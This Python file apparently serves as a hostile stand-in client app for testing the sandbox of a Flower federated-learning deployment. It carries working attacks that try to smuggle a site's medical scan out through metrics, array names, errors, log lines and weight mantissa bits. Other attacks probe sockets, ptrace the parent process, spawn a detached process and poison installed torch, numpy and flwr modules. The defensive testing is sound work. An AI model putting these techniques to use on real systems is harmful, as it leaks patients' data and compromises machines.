"""Takes the place of ``clients/app.py`` in a bundle: every way out that an app could try.

The order's round says which attack it is. What the app finds at the site it says on its own
console, which stays there; what it tries to get out is the first scan.
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import gc
import importlib.util
import json
import logging
import os
import socket
import subprocess
import sys
from pathlib import Path

import numpy as np
import torch
from flwr.app import ArrayRecord, ConfigRecord, Context, Message, MetricRecord
from flwr.clientapp import ClientApp

from clients.local import SiteClient
from common import messages

app = ClientApp()
ATTACKS: dict[int, object] = {}


def attack(number):
    def kept(function):
        ATTACKS[number] = function
        return function

    return kept


@app.query("hello")
def hello(message: Message, context: Context) -> Message:
    return attacked(message, context, SiteClient(context).hello(message))


@app.train()
def train(message: Message, context: Context) -> Message:
    return attacked(message, context, SiteClient(context).train(message))


def attacked(message: Message, context: Context, reply: Message) -> Message:
    order = message.content[messages.CONFIG]
    number = int(order["best"] or order["round"])
    if number in ATTACKS:
        scan = sorted(Path(str(context.node_config["data-dir"])).rglob("*.nii.gz"))[0].read_bytes()
        changed = ATTACKS[number](reply, scan, context)
        return changed or reply
    return reply


def found(**what: object) -> None:
    """Say what the site's own console is to tell the test."""
    print("FOUND", json.dumps(what), flush=True)


@attack(10)
def metric_list(reply, scan, context):
    reply.content[messages.METRICS]["n_test"] = list(scan[:4096])


@attack(11)
def further_array(reply, scan, context):
    reply.content[messages.ARRAYS] = ArrayRecord([np.frombuffer(scan, np.uint8)])


@attack(12)
def name_of_an_array(reply, scan, context):
    name = base64.b64encode(scan[:3000]).decode()
    reply.content[messages.ARRAYS] = messages.pack({name: torch.zeros(1)})


@attack(13)
def text_of_an_error(reply, scan, context):
    raise RuntimeError(base64.b64encode(scan[:3000]).decode())


@attack(14)
def text_of_a_failure(reply, scan, context):
    words = base64.b64encode(scan[:3000]).decode()
    return messages.failure_reply(reply, messages.Failure(words, words, words, words, words))


@attack(15)
def unused_record(reply, scan, context):
    reply.content["notes"] = ConfigRecord({"scan": scan[:3000]})


@attack(16)
def name_of_a_metric(reply, scan, context):
    reply.content[messages.METRICS] = MetricRecord({base64.b64encode(scan[:90]).decode(): 1})


@attack(17)
def line_of_a_log(reply, scan, context):
    logging.getLogger("flwr").error("LINE %s", base64.b64encode(scan[:300]).decode())


@attack(18)
def group_of_a_message(reply, scan, context):
    reply.metadata.__dict__["_group_id"] = base64.b64encode(scan[:3000]).decode()


@attack(20)
def files_outside(reply, scan, context):
    """Read and write what is not the site's: the path is in the run config."""
    outside = Path(str(context.run_config["run.output-dir"])).parent
    read = False
    with contextlib.suppress(OSError):
        read = bool((outside / "outside.txt").read_text())
    with contextlib.suppress(OSError):  # what it writes may be there as long as the box
        (outside / "written.txt").write_text("x")
    other = Path(str(context.node_config["data-dir"])).parent / "other"
    found(read=read, other=other.exists())


@attack(21)
def sockets(reply, scan, context):
    """Connect to anything but the gate, in any family."""
    reached = []
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", int(context.run_config["run.seed"]))),
        (socket.AF_INET, ("192.0.2.1", 80)),
        (socket.AF_INET6, ("::1", int(context.run_config["run.seed"]))),
    ):
        with contextlib.suppress(OSError), socket.socket(family) as probe:
            probe.settimeout(2)
            probe.connect(address)
            reached.append(str(address))
    found(reached=reached)


@attack(22)
def memory_of_others(reply, scan, context):
    """See, read or stop another process."""
    others = [int(path.name) for path in Path("/proc").iterdir() if path.name.isdecimal()]
    readable = []
    for pid in others:
        with contextlib.suppress(OSError):
            command = Path(f"/proc/{pid}/cmdline").read_bytes()
            if b"supernode" in command:
                readable.append(pid)
    traced = ctypes.CDLL(None, use_errno=True).ptrace(16, os.getppid(), 0, 0)
    found(supernodes=readable, traced=traced == 0)


@attack(23)
def other_task(reply, scan, context):
    """Ask Flower for a process of another kind."""
    from flwr.proto.runtime_pb2 import CreateTaskRequest
    from flwr.supercore.runtime import RuntimeHttpClient

    client = next(thing for thing in gc.get_objects() if isinstance(thing, RuntimeHttpClient))
    task = 0
    with contextlib.suppress(BaseException):  # as one of Flower's is
        request = CreateTaskRequest(type="flwr-connector", connector_ref="web_fetch")
        task = client.CreateTask(request).task_id
    found(task=task)


@attack(24)
def stay(reply, scan, context):
    """Leave a process, and code where a later run might execute it."""
    mark = str(context.run_config["run.output-dir"])
    sleep = f"import time; time.sleep(900)  # daemon of {mark}"
    subprocess.Popen([sys.executable, "-c", sleep], start_new_session=True)
    written = []
    for name in ("flwr", "torch", "numpy", "clients"):
        origin = Path(importlib.util.find_spec(name).origin)
        with contextlib.suppress(OSError):
            code = origin.read_text() + f"\nopen({mark + '/poison-ran'!r}, 'a').close()\n"
            origin.write_text(code)
            written.append(name)
    found(written=written)


@attack(30)
def row(reply, scan, context):
    state = messages.unpack(reply.content[messages.ARRAYS])
    name = next(iter(state))
    value = state[name].numpy()
    more = np.resize(np.frombuffer(scan[:400], np.float32), value[:1].shape)
    state[name] = torch.from_numpy(np.concatenate([value, more.astype(value.dtype)]))
    reply.content[messages.ARRAYS] = messages.pack(state)


@attack(31)
def mantissas(reply, scan, context):
    """Weights of exactly the form that was asked for, whose low bits are the scan's."""
    state, position = messages.unpack(reply.content[messages.ARRAYS]), 0
    bits = np.unpackbits(np.frombuffer(scan, np.uint8)).astype(np.uint32)
    for name, tensor in state.items():
        words = tensor.numpy().ravel().view(np.uint32)
        own = np.resize(bits[position : position + words.size], words.shape)
        mixed = ((words & ~np.uint32(1)) | own).view(np.float32).reshape(tensor.shape)
        state[name] = torch.from_numpy(mixed)
        position += words.size
    reply.content[messages.ARRAYS] = messages.pack(state)
